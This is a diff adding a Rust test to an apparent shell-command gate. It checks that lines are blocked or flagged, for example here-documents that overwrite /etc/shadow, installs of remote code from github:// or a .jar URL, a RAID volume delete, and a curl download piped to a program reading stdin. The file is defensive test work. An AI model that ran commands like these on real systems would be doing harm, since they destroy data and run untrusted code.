@@ -1732,6 +1732,45 @@ fn mechanisms_found_by_the_twelfth_sealed_part() {
     }
 }
 
+/// Found by the thirteenth sealed part (issue 20), each written here with other names: code in
+/// an argument or a here-document that saves over a system file (`doc.save("/etc/…")`, a
+/// call named `output…`); code named by its address on the network and told to install or run
+/// (`metacello install github://…`, `"bundle:install -s https://….jar"`), or given as a
+/// program's input (a junction); a verb after a device's address (`/c0/v0 del`); a download
+/// piped into an unknown program told to read stdin (`-`). What only looks stays allowed.
+#[test]
+fn mechanisms_found_by_the_thirteenth_sealed_part() {
+    let ctx = ctx();
+    for line in [
+        "acme-pdf run /dev/stdin <<'EOF'\nvar d = new Doc();\nd.save(\"/etc/shadow\");\nEOF",
+        "acme-radio 'output.file(%ogg, \"/etc/hosts\", noise())'",
+        "acme-image eval 'Repo install github://someone/tools:main/src'",
+        "acme-console -u admin \"plugin:install -s https://repo.x.example/p/tools-2.1.jar\"",
+    ] {
+        assert_eq!(evaluate(line, &ctx).verdict, Verdict::Block, "{line}");
+    }
+    for line in [
+        "acme-raid /c1/v2 del force",
+        "acme-raid /c0/e9/s1 set offline",
+        "acme-flow https://raw.x.example/flows/cleanup.cwl inputs.yml",
+        "curl -fsSL https://paste.x.example/raw/abc | acme-engine -",
+    ] {
+        assert_eq!(evaluate(line, &ctx).verdict, Verdict::Junction, "{line}");
+    }
+    for line in [
+        "acme-raid /c0 show all",
+        "acme-raid /c0/v0 show",
+        "acme-pdf run build/fix.js",
+        "acme-radio 'output.file(%ogg, \"build/out.ogg\", noise())'",
+        "acme-run http://127.0.0.1:8000/cleanup.py",
+        "acme-flow https://api.x.example/openapi.json",
+        "acme-get https://x.example/dist/tool.tar.gz",
+        "curl -s https://api.x.example/v1/items | acme-filter .name",
+    ] {
+        assert_eq!(evaluate(line, &ctx).verdict, Verdict::Allow, "{line}");
+    }
+}
+
 /// Found by the PowerShell property test (issue 23): a short option joined to its value read
 /// its first two bytes as a flag, and `-é/x` sliced `é` in half; the gate panicked on the whole
 /// line.
